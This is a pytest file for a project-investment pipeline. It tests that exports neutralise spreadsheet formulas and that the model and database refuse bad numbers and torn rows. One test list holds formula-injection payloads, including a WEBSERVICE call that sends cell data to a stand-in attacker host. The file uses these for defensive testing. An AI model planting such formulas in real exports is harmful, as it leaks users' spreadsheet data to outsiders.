"""Attacks on the project pipeline that once broke the whole investment side, now refused.

A member once stored ``capex_meur: Infinity`` (every pipeline page then answered 400), two
members posting 1.7e308 overflowed the aggregates (500), a torn write left an unreadable
line, and a title ``=WEBSERVICE(...)`` became a live formula in the secretariat's workbook.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, text
from sqlalchemy.exc import IntegrityError

from critchem.core.errors import ProjectValidationError
from critchem.investment import Pipeline, export_file, import_file, parse_project
from critchem.investment.pipeline import EXPORT_COLUMNS, project_to_row
from critchem.investment.pipeline_db import engine_for
from tests.investment.conftest import base_data


@pytest.mark.parametrize("value", [math.inf, -math.inf, math.nan, 1.7e308, 1e400, 1e11])
@pytest.mark.parametrize("field", ["capex_meur", "ghg_avoided_10y_tco2e"])
def test_non_finite_and_absurd_numbers_are_refused_naming_the_field(
    field: str, value: float
) -> None:
    with pytest.raises(ProjectValidationError) as info:
        parse_project(base_data(**{field: value}))
    assert info.value.field == field


def test_json_infinity_is_refused() -> None:
    from critchem.investment.projects import Project

    body = (
        Project.model_validate(base_data())
        .model_dump_json()
        .replace('"capex_meur":100.0', '"capex_meur":Infinity')
    )
    assert "Infinity" in body
    with pytest.raises(ValueError, match="capex_meur"):
        Project.model_validate_json(body)


def _raw_row(**overrides: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "project_id": "X-1",
        "version": 1,
        "action": "add",
        "recorded_at": "2026-01-01 00:00:00",
        "recorded_by": "attacker",
        "title": "t",
        "country": "DE",
        "status": "idea",
        "capex_meur": 10.0,
        "funding_gap_meur": 1.0,
        "ghg_avoided_10y_tco2e": 0.0,
        "payload": "{}",
    }
    return {**row, **overrides}


@pytest.mark.parametrize(
    "overrides",
    [
        {"capex_meur": math.inf},
        {"capex_meur": 1.7e308},
        {"capex_meur": -1.0},
        {"funding_gap_meur": 20.0},
        {"ghg_avoided_10y_tco2e": math.inf},
        {"version": 0},
        {"action": "delete"},
    ],
)
def test_the_database_itself_refuses_what_the_model_would(
    tmp_path: Path, overrides: dict[str, Any]
) -> None:
    """Even a writer that bypasses the model cannot store a non-finite or absurd number."""
    path = tmp_path / "pipeline.db"
    Pipeline(path)
    engine = create_engine(f"sqlite:///{path}")
    insert = text(
        "INSERT INTO project_version (project_id, version, action, recorded_at, recorded_by, "
        "title, country, status, capex_meur, funding_gap_meur, ghg_avoided_10y_tco2e, payload) "
        "VALUES (:project_id, :version, :action, :recorded_at, :recorded_by, :title, :country, "
        ":status, :capex_meur, :funding_gap_meur, :ghg_avoided_10y_tco2e, :payload)"
    )
    with pytest.raises(IntegrityError), engine.begin() as connection:
        connection.execute(insert, _raw_row(**overrides))
    engine.dispose()


def test_an_unreadable_row_is_skipped_and_the_rest_stays_readable(
    tmp_path: Path, data: dict[str, Any]
) -> None:
    """A row written by someone else (or torn) no longer breaks every page."""
    path = tmp_path / "pipeline.db"
    pipe = Pipeline(path)
    pipe.add(parse_project(data))
    with engine_for(path).begin() as connection:
        connection.execute(
            text(
                "INSERT INTO project_version (project_id, version, action, recorded_at, "
                "recorded_by, title, country, status, capex_meur, funding_gap_meur, "
                "ghg_avoided_10y_tco2e, payload) VALUES ('TORN', 1, 'add', "
                "'2026-01-01 00:00:00', 'x', 't', 'DE', 'idea', 1, 0, 0, '{\"id\": \"TOR')"
            )
        )
    assert [p.id for p in Pipeline(path).current()] == ["P-1"]
    assert Pipeline(path).get("P-1").title == data["title"]


def test_versions_are_rows_with_who_and_when(tmp_path: Path, data: dict[str, Any]) -> None:
    path = tmp_path / "pipeline.db"
    pipe = Pipeline(path)
    pipe.add(parse_project(data), by="alice")
    pipe.update(parse_project({**data, "status": "fid"}), by="bob")
    with engine_for(path).connect() as connection:
        rows = connection.execute(
            text("SELECT version, action, recorded_by, status FROM project_version ORDER BY seq")
        ).all()
    assert [tuple(r) for r in rows] == [
        (1, "add", "alice", "permitting"),
        (2, "update", "bob", "fid"),
    ]


FORMULAS = ['=WEBSERVICE("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_neutralise_formula_starts_and_round_trip(tmp_path: Path, suffix: str) -> None:
    pipe = Pipeline()
    for n, title in enumerate(FORMULAS):
        pipe.add(parse_project(base_data(id=f"F-{n}", title=title + " plant", site=title)))
    out = tmp_path / f"out{suffix}"
    assert export_file(pipe.current(), out) == len(FORMULAS)
    if suffix == ".csv":
        with out.open(encoding="utf-8", newline="") as fh:
            cells = [row[c] for row in csv.DictReader(fh) for c in ("title", "site")]
    else:
        book = load_workbook(out)
        sheet = book.active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        header = [c.value for c in sheet[1]]
        cells = [
            str(row[header.index(c)])
            for row in sheet.iter_rows(min_row=2, values_only=True)
            for c in ("title", "site")
        ]
    assert cells and all(cell.startswith("'") for cell in cells)
    again = Pipeline()
    report = import_file(again, out)
    assert report.rejected == 0
    if suffix == ".xlsx":  # XML turns a CR into LF when the workbook is read back
        assert again.get("F-5").title == "'\n=1 plant"  # still inert: quoted, not restored
        assert [p for p in again.current() if p.id != "F-5"] == pipe.current()[:-1]
    else:
        assert again.current() == pipe.current()


def test_project_to_row_is_unchanged_for_screen_output() -> None:
    project = parse_project(base_data(title="=1+1 plant"))
    assert project_to_row(project)["title"] == "=1+1 plant"
    assert set(project_to_row(project)) == set(EXPORT_COLUMNS)


def _csv_bytes(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(EXPORT_COLUMNS), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def test_a_latin1_row_is_rejected_alone_and_utf16_files_are_read(tmp_path: Path) -> None:
    good = project_to_row(parse_project(base_data()))
    other = project_to_row(parse_project(base_data(id="P-2")))
    text = _csv_bytes([good, {**other, "title": "Usine d'ammoniac \xe9"}])
    latin = tmp_path / "latin1.csv"
    latin.write_bytes(text.encode("latin-1"))
    report = import_file(Pipeline(), latin)
    assert (report.imported, report.rejected) == (1, 1)
    assert report.errors[0].row == 3 and report.errors[0].column == "title"
    assert "not UTF-8 text" in report.errors[0].why
    utf16 = tmp_path / "utf16.csv"
    utf16.write_bytes(text.encode("utf-16"))
    pipe = Pipeline()
    assert import_file(pipe, utf16).imported == 2
    assert pipe.get("P-2").title == "Usine d'ammoniac \xe9"
